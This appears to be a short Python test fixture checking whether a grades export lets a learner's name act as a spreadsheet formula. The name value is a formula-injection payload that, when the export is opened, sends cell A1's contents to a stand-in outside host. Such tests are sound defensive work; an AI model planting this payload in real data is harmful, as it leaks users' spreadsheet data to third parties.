"""A learner's name is a formula, which a spreadsheet runs when grades are opened there.

A success: a cell of the export begins with a sign that starts a formula.
"""

LEARNER = '=HYPERLINK("http://x.example?"&A1)'
EXPECTED = {"state": "graded", "scores": {}}
